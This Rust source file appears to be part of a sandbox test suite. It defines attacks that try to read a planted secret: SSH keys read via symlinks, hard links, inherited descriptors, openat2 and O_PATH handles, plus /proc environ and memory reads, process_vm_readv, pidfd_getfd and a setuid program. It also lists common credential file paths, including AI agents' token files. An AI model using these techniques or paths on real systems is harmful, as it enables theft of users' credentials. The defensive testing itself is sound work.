//! Reading secrets.

use std::fs;
use std::io::{self, Read};
use std::os::unix::fs::symlink;

use super::{Attack, attack};
use crate::call::{call, open, path};
use crate::scene::{Outcome, SECRET, Scene};

const KEY: &str = "home/.ssh/id_ed25519";

/// Where programs keep credentials, histories and passwords, in the home.
const CREDENTIALS: &[&str] = &[
    ".netrc",
    ".pgpass",
    ".npmrc",
    ".pypirc",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".config/gcloud/credentials.db",
    ".kube/config",
    ".docker/config.json",
    ".aws/credentials",
    ".azure/accessTokens.json",
    ".gnupg/private-keys-v1.d/key",
    ".password-store/mail.gpg",
    "passwords.kdbx",
    ".bash_history",
    ".zsh_history",
    ".mozilla/firefox/x.default/logins.json",
    ".config/google-chrome/Default/Login Data",
    ".local/share/keyrings/login.keyring",
    ".claude.json",
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".gemini/oauth_creds.json",
    ".config/unknown-tool/token",
    ".gem/credentials",
    ".m2/settings.xml",
    ".gradle/gradle.properties",
    ".terraform.d/credentials.tfrc.json",
    ".local/share/uv/credentials/credentials.toml",
    ".cache/unknown-tool/session",
];

fn nothing(_: &mut Scene) {}

fn with_victim(scene: &mut Scene) {
    scene.victim();
}

fn secret_came_out(_: &Scene, outcome: &Outcome) -> bool {
    outcome.output.contains(SECRET)
}

fn show(text: io::Result<impl AsRef<[u8]>>) -> io::Result<()> {
    println!("{}", String::from_utf8_lossy(text?.as_ref()).replace('\0', "\n"));
    Ok(())
}

pub(super) const ATTACKS: &[Attack] = &[
    attack("read_key", nothing, |inside| show(fs::read(inside.at(KEY))), secret_came_out),
    attack(
        "read_own_token_of_handraise",
        nothing,
        |inside| show(fs::read(inside.at("home/.config/handraise/tokens/agent.token"))),
        secret_came_out,
    ),
    attack(
        "read_credentials_beside_a_tool",
        nothing,
        |inside| show(fs::read(inside.at("home/.cargo/credentials.toml"))),
        secret_came_out,
    ),
    attack(
        "read_through_symlink",
        nothing,
        |inside| {
            symlink(inside.at(KEY), inside.at("project/link"))?;
            show(fs::read(inside.at("project/link")))
        },
        secret_came_out,
    ),
    attack(
        "read_through_hard_link",
        nothing,
        |inside| {
            fs::hard_link(inside.at(KEY), inside.at("project/link"))?;
            show(fs::read(inside.at("project/link")))
        },
        secret_came_out,
    ),
    attack(
        "read_after_rename",
        nothing,
        |inside| {
            fs::rename(inside.at("home/.ssh"), inside.at("project/keys"))?;
            show(fs::read(inside.at("project/keys/id_ed25519")))
        },
        secret_came_out,
    ),
    attack(
        "read_below_inherited_folder",
        |scene| scene.inherited = fs::File::open(&scene.home).ok(),
        |_| {
            let file = call(libc::SYS_openat, &[9, path(".ssh/id_ed25519"), i64::from(libc::O_RDONLY)])?;
            show(fs::read(format!("/proc/self/fd/{file}")))
        },
        secret_came_out,
    ),
    attack(
        "read_inherited_descriptor",
        |scene| scene.inherited = fs::File::open(scene.home.join(KEY.trim_start_matches("home/"))).ok(),
        |_| show(fs::read("/proc/self/fd/9")),
        secret_came_out,
    ),
    attack(
        "read_by_openat2",
        nothing,
        |inside| {
            let how = [libc::O_RDONLY as u64, 0, 0];
            let key = path(inside.at(KEY));
            let file = call(libc::SYS_openat2, &[i64::from(libc::AT_FDCWD), key, how.as_ptr() as i64, 24])?;
            let mut bytes = [0_u8; 64];
            call(libc::SYS_pread64, &[file, bytes.as_mut_ptr() as i64, 64, 0])?;
            show(Ok(bytes))
        },
        secret_came_out,
    ),
    attack(
        "read_known_credentials",
        |scene| {
            for file in CREDENTIALS {
                let path = scene.home.join(file);
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(path, SECRET).unwrap();
            }
            scene.give_away();
        },
        |inside| {
            for file in CREDENTIALS {
                if let Ok(text) = fs::read_to_string(inside.at("home").join(file)) {
                    println!("{file}: {text}");
                }
            }
            Ok(())
        },
        secret_came_out,
    ),
    attack(
        "read_through_process_root",
        with_victim,
        |inside| show(fs::read(format!("/proc/{}/root{}", inside.name("victim"), inside.at(KEY).display()))),
        secret_came_out,
    ),
    attack(
        "read_environment_of_a_process",
        with_victim,
        |inside| show(fs::read(format!("/proc/{}/environ", inside.name("victim")))),
        secret_came_out,
    ),
    attack(
        "read_memory_of_a_process",
        with_victim,
        |inside| {
            let victim = inside.name("victim");
            let maps = fs::read_to_string(format!("/proc/{victim}/maps"))?;
            let stack = maps.lines().find(|line| line.ends_with("[stack]")).unwrap().split(' ').next().unwrap();
            let (from, to) = stack.split_once('-').unwrap();
            let [from, to] = [from, to].map(|number| u64::from_str_radix(number, 16).unwrap());
            let memory = fs::File::open(format!("/proc/{victim}/mem"))?;
            let mut bytes = vec![0; (to - from) as usize];
            std::os::unix::fs::FileExt::read_at(&memory, &mut bytes, from)?;
            show(Ok(bytes))
        },
        secret_came_out,
    ),
    attack(
        "read_environment_of_those_above",
        |scene| scene.environment.push(("GITHUB_TOKEN".into(), SECRET.into())),
        |_| {
            let mut pid = std::process::id();
            let mut all = Vec::new();
            for _ in 0..4 {
                let _ = fs::File::open(format!("/proc/{pid}/environ")).and_then(|mut file| file.read_to_end(&mut all));
                let line = fs::read_to_string(format!("/proc/{pid}/stat"))?;
                pid = line.rsplit(") ").next().unwrap().split(' ').nth(1).unwrap().parse().unwrap();
                if pid == 0 {
                    break;
                }
            }
            show(Ok(all))
        },
        secret_came_out,
    ),
    attack(
        "read_token_in_environment",
        |scene| scene.environment.push(("NPM_TOKEN".into(), SECRET.into())),
        |_| show(Ok(std::env::var("NPM_TOKEN").unwrap_or_default())),
        secret_came_out,
    ),
    attack(
        "read_by_process_vm_readv",
        with_victim,
        |inside| {
            let victim = inside.number("victim");
            // Where the environment is: fields 50 and 51 of stat need the right to trace.
            let line = fs::read_to_string(format!("/proc/{victim}/stat"))?;
            let fields: Vec<&str> = line.rsplit(") ").next().unwrap().split(' ').collect();
            let (from, to): (u64, u64) = (fields[47].parse().unwrap(), fields[48].trim().parse().unwrap());
            let mut bytes = vec![0_u8; (to - from) as usize];
            let here = [bytes.as_mut_ptr() as u64, to - from];
            let there = [from, to - from];
            call(libc::SYS_process_vm_readv, &[victim, here.as_ptr() as i64, 1, there.as_ptr() as i64, 1, 0])?;
            show(Ok(bytes))
        },
        secret_came_out,
    ),
    attack(
        "take_descriptor_of_a_process",
        |scene| {
            fs::write(scene.outside.join("canary"), SECRET).unwrap();
            scene.victim();
        },
        |inside| {
            let handle = call(libc::SYS_pidfd_open, &[inside.number("victim"), 0])?;
            let file = call(libc::SYS_pidfd_getfd, &[handle, 0, 0])?;
            let mut bytes = [0_u8; 64];
            call(libc::SYS_pread64, &[file, bytes.as_mut_ptr() as i64, 64, 0])?;
            show(Ok(bytes))
        },
        secret_came_out,
    ),
    attack(
        "read_by_opening_a_handle_anew",
        nothing,
        |inside| {
            // A handle for looking only, opened anew for reading.
            let handle = open(inside.at(KEY), libc::O_PATH)?;
            show(fs::read(format!("/proc/self/fd/{handle}")))
        },
        secret_came_out,
    ),
    Attack {
        name: "read_as_root_by_setuid_program",
        prepare: |scene| {
            use std::os::unix::fs::PermissionsExt;
            let program = scene.home.join(".cargo/bin/setuid");
            fs::copy(crate::scene::programs().join("attacker"), &program).unwrap();
            fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
            fs::write(scene.home.join(".cargo/bin/of-root"), SECRET).unwrap();
            fs::set_permissions(scene.home.join(".cargo/bin/of-root"), fs::Permissions::from_mode(0o600)).unwrap();
        },
        run: |inside| {
            let program = inside.at("home/.cargo/bin/setuid");
            let child = std::process::Command::new(program)
                .args(["--ignored", "--exact", "attacker", "--nocapture", "--test-threads=1"])
                .env("ATTACK", "read_root_file")
                .status()?;
            if child.success() { Ok(()) } else { Err(io::ErrorKind::PermissionDenied.into()) }
        },
        happened: secret_came_out,
        not_here: super::needs_root,
    },
];
